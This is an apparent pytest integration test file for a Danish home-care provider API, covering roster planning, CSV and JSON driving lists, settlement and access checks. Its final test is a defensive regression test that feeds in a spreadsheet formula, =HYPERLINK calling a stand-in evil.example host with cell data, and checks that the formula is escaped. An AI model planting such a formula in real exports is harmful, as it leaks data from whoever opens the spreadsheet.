"""Rolling planning staffs visits from the roster; kørelister as JSON and CSV; both stores."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from datetime import date

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from services.provider.api.access import ACCESS
from services.provider.api.afregning_routes import build_afregning_router
from services.provider.api.operations import build_operations
from services.provider.api.plan_routes import build_plan_router
from services.provider.api.routes import build_router
from services.provider.application.provider_app import ProviderApplication
from services.provider.application.read_model import ProviderWorkLists
from shared.contracts import PublicEvent
from shared.infra.access import secure_api
from shared.infra.eventstore import store_env
from tests.conftest import SettingsFactory
from tests.identity import headers_for
from tests.integration.test_provider_operations import apply, bevilling, message
from tests.leverandoerer import med_demo_register

pytestmark = pytest.mark.integration
MANDAG = date(2026, 11, 2)
LEV = "omsorg-plus-aps"


def afgoerelse(borger: uuid.UUID, kategori: str, antal: int, periode: str) -> PublicEvent:
    b = bevilling(LEV)
    b.update(
        bevilling_id=str(uuid.uuid4()),
        kategori=kategori,
        hyppighed={"antal": antal, "periode": periode},
        minutter_pr_besoeg=30,
    )
    return message(
        "AfgoerelseTruffet",
        {
            "afgoerelse_id": str(uuid.uuid4()),
            "borger_id": str(borger),
            "truffet_dato": "2026-10-30",
            "udfald": [],
            "bevillinger": [b],
        },
    )


def _api(app: ProviderApplication) -> FastAPI:
    api = secure_api("provider", "test", "", access_table=ACCESS)
    lists = ProviderWorkLists(app)
    for r in (build_router, build_operations, build_plan_router):
        api.include_router(r(app, lists))
    api.include_router(build_afregning_router(lists))
    return api


@pytest.fixture
def client(store_settings: SettingsFactory) -> Iterator[tuple[TestClient, ProviderApplication]]:
    app = med_demo_register(
        ProviderApplication(env=store_env(store_settings("provider"), "provider"))
    )
    yield TestClient(_api(app)), app
    app.close()  # give PostgreSQL connections back: the server is shared by the suite


def test_roster_planning_and_kørelister(client: tuple[TestClient, ProviderApplication]) -> None:
    c, app = client
    h = headers_for("leverandoer", "planner-lis", leverandoer_id=LEV)
    nord = headers_for("leverandoer", "ib", leverandoer_id="hjemmeplejen-nord")
    a, b = uuid.uuid4(), uuid.uuid4()
    apply(app, afgoerelse(a, "personlig", 2, "dag"))
    apply(app, afgoerelse(b, "praktisk", 1, "uge"))
    roster = {
        "medarbejdere": [
            {"medarbejder_id": "sosu-maria", "arbejdsdage": [0, 1, 2, 3, 4, 5, 6]},
            {"medarbejder_id": "sosu-ole", "arbejdsdage": [0, 1, 2, 3, 4, 5, 6]},
            {
                "medarbejder_id": "aften-eva",
                "arbejdsdage": [0, 1, 2, 3, 4, 5, 6],
                "fra": "15:00",
                "til": "23:00",
                "kategorier": ["personlig"],
            },
        ]
    }
    assert c.put(f"/leverandoerer/{LEV}/medarbejdere", json=roster, headers=nord).status_code == 403
    r = c.put(f"/leverandoerer/{LEV}/medarbejdere", json=roster, headers=h)
    assert r.status_code == 200 and r.json()["medarbejdere"][2]["fra"] == "15:00"
    bad = {"medarbejdere": [{"medarbejder_id": "x"}, {"medarbejder_id": "x"}]}
    r = c.put(f"/leverandoerer/{LEV}/medarbejdere", json=bad, headers=h)
    assert r.status_code in (409, 422) and r.json()["regel"] == "medarbejder-dublet"

    r = c.post(f"/leverandoerer/{LEV}/planlaegning", json={"dato": "2026-11-02"}, headers=h)
    assert r.status_code == 200
    # 28 days x 2 personal-care visits + 4 weekly cleanings, all staffed.
    assert r.json()["bemandede_besoeg"] == 28 * 2 + 4
    again = c.post(f"/leverandoerer/{LEV}/planlaegning", json={"dato": "2026-11-02"}, headers=h)
    assert again.json() == {"nye_besoeg": 0, "bemandede_besoeg": 0}  # idempotent

    r = c.get(f"/leverandoerer/{LEV}/koereliste?dato=2026-11-02", headers=h)
    assert r.status_code == 200
    lister = {liste["medarbejder_id"]: liste["besoeg"] for liste in r.json()["koerelister"]}
    assert None not in lister  # nothing unstaffed
    assert [v["start"] for v in lister["aften-eva"]] == ["17:00"]
    morning = [v for vs in lister.values() for v in vs if v["tidsvindue"] == "morgen"]
    assert len(morning) == 1 and "sag_id" not in morning[0]
    # The citizen's morning helper is the same every day (fixed helper).
    helpers = set()
    for d in range(2, 30):
        day = c.get(f"/leverandoerer/{LEV}/koereliste?dato=2026-11-{d:02d}", headers=h).json()
        helpers |= {
            liste["medarbejder_id"]
            for liste in day["koerelister"]
            for v in liste["besoeg"]
            if v["borger_id"] == str(a) and v["tidsvindue"] == "morgen"
        }
    assert len(helpers) == 1

    r = c.get(
        f"/leverandoerer/{LEV}/koereliste.csv?dato=2026-11-02&medarbejder_id=aften-eva", headers=h
    )
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [(x["medarbejder_id"], x["start"], x["slut"]) for x in rows] == [
        ("aften-eva", "17:00", "17:30")
    ]
    r = c.get(f"/leverandoerer/{LEV}/koereliste?dato=2026-11-02", headers=nord)
    assert r.status_code == 403


def test_orders_carry_only_what_the_category_needs(
    client: tuple[TestClient, ProviderApplication],
) -> None:
    c, app = client
    h = headers_for("leverandoer", "planner-lis", leverandoer_id=LEV)
    borger = uuid.uuid4()
    apply(app, afgoerelse(borger, "personlig", 1, "dag"))
    apply(app, afgoerelse(borger, "praktisk", 1, "uge"))
    orders = {
        o["kategori"]: o for o in c.get(f"/leverandoerer/{LEV}/bestillinger", headers=h).json()
    }
    assert "sag_id" in orders["personlig"] and "sag_id" not in orders["praktisk"]
    assert orders["praktisk"]["dataminimering"]["udeladt"] == [
        "aendringsindberetninger",
        "sag_id",
    ]
    for kategori, order in orders.items():
        one = c.get(f"/bestillinger/{order['bestilling_id']}", headers=h).json()
        assert ("sag_id" in one) == (kategori == "personlig")
        assert ("aendringsindberetninger" in one) == (kategori == "personlig")
        assert one["besoeg"] and "medarbejder_id" in one["besoeg"][0]


def test_settlement_per_month_json_csv_and_reproducible(
    client: tuple[TestClient, ProviderApplication],
) -> None:
    c, app = client
    h = headers_for("leverandoer", "planner-lis", leverandoer_id=LEV)
    borger = uuid.uuid4()
    apply(app, afgoerelse(borger, "praktisk", 1, "uge"))  # Mondays, 30 minutes
    order = next(iter(c.get(f"/leverandoerer/{LEV}/bestillinger", headers=h).json()))
    visits = c.get(f"/bestillinger/{order['bestilling_id']}", headers=h).json()["besoeg"]
    nov = [v["besoeg_id"] for v in visits if v["dato"].startswith("2026-11")]
    base = f"/bestillinger/{order['bestilling_id']}/besoeg"
    lev = {"leveret_tidspunkt": "2026-11-02T10:00:00+01:00", "medarbejder_id": "m"}
    r = c.post(f"{base}/{nov[0]}/levering", json=lev | {"faktiske_minutter": 40}, headers=h)
    assert r.status_code == 201
    forg = {"tidspunkt": "2026-11-09T10:00:00+01:00", "medarbejder_id": "m"}
    assert c.post(f"{base}/{nov[1]}/forgaeves", json=forg, headers=h).status_code == 201
    afl = {
        "aflyst_af": "leverandoer",
        "aarsag": "Syg",
        "aflyst_tidspunkt": "2026-11-15T08:00:00+01:00",
    }
    assert c.post(f"{base}/{nov[2]}/aflysning", json=afl, headers=h).status_code == 201

    r = c.get(f"/leverandoerer/{LEV}/afregning?maaned=2026-11", headers=h)
    assert r.status_code == 200
    body = r.json()
    p = next(x for x in body["linjer"] if x["kategori"] == "praktisk")
    assert (p["leverede_minutter"], p["forgaeves_minutter"], p["afregnede_minutter"]) == (
        40,
        30,
        70,
    )
    # 30 minutes a week over November's 29 days from the grant's start on Monday the 2nd
    # (bevilget_tid, the definition tilsyn uses), not the calendar's five Mondays (150)
    assert p["visiterede_minutter"] == round(30 * 29 / 7)
    assert body["takst_version"] == "2026" and p["beloeb"] == "424.67"  # 70 min at 364 kr/h
    csv_r = c.get(f"/leverandoerer/{LEV}/afregning.csv?maaned=2026-11", headers=h)
    rows = {x["kategori"]: x for x in csv.DictReader(io.StringIO(csv_r.text))}
    assert rows["praktisk"]["beloeb"] == "424.67" and len(rows) == 4

    # From the event history alone: a fresh projection over the same store agrees.
    again = ProviderApplication(env=app.env)
    try:
        fresh = TestClient(_api(again)).get(
            f"/leverandoerer/{LEV}/afregning?maaned=2026-11", headers=h
        )
    finally:
        again.close()
    assert fresh.json() == body
    nord = headers_for("leverandoer", "ib", leverandoer_id="hjemmeplejen-nord")
    assert c.get(f"/leverandoerer/{LEV}/afregning?maaned=2026-11", headers=nord).status_code == 403
    revisor = headers_for("revisor", "rev")
    assert (
        c.get(f"/leverandoerer/{LEV}/afregning?maaned=2026-11", headers=revisor).status_code == 200
    )
    assert c.get(f"/leverandoerer/{LEV}/afregning?maaned=2026-13", headers=h).status_code == 422


def test_register_lists_several_active_providers(
    client: tuple[TestClient, ProviderApplication],
) -> None:
    c, _ = client
    borger = headers_for("borger", borger_id=str(uuid.uuid4()))
    r = c.get("/leverandoerer?kategori=praktisk&dato=2026-11-01", headers=borger)
    assert r.status_code == 200 and len(r.json()) >= 2
    assert {p["type"] for p in r.json()} <= {"kommunal", "privat", "selvejende"}


def test_a_formula_in_an_indsats_name_reaches_the_csv_as_text(
    client: tuple[TestClient, ProviderApplication],
) -> None:
    """Regression: an indsats_navn of =HYPERLINK(...) from the grant reached koereliste.csv
    as a formula cell, which a spreadsheet would run when the list is opened."""
    c, app = client
    h = headers_for("leverandoer", "planner-lis", leverandoer_id=LEV)
    formel = '=HYPERLINK("https://evil.example/?d="&A1,"Bad")'
    event = afgoerelse(uuid.uuid4(), "personlig", 1, "dag")
    event.data["bevillinger"][0]["indsats_navn"] = formel
    apply(app, event)
    r = c.get(f"/leverandoerer/{LEV}/koereliste.csv?dato=2026-11-03", headers=h)
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows and all(x["indsats_navn"] == "'" + formel for x in rows)
    assert all(x["minutter"] == "30" for x in rows)  # numbers stay numbers
    assert "\n=" not in r.text and ",=" not in r.text
